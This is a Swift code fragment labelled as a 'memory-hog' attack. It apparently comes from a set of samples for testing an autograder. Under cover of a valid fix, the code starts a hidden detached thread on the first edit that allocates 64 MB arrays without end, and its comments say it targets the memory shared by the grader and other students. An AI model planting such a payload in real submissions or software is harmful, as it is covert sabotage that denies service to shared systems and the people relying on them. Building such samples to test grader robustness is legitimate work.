// ATTACK: memory-hog
// A valid fix that also starts, at its first edit, a thread that takes memory without end,
// written so it is really used: toward the machine's memory, which the students graded beside it
// and the grader need. (Added to a solved exercise: see ../README.md.)
private final class FirstEdit: @unchecked Sendable {
    private let lock = NSLock()
    private var seen = false
    /// True once: for the first edit.
    func isFirst() -> Bool { lock.withLock { defer { seen = true }; return !seen } }
}
private let firstEdit = FirstEdit()
// at the start of recalculate():
        if firstEdit.isFirst() {
            Thread.detachNewThread {
                var hoard: [[UInt8]] = []
                while true { hoard.append([UInt8](repeating: UInt8(truncatingIfNeeded: hoard.count), count: 64 << 20)) }
            }
        }
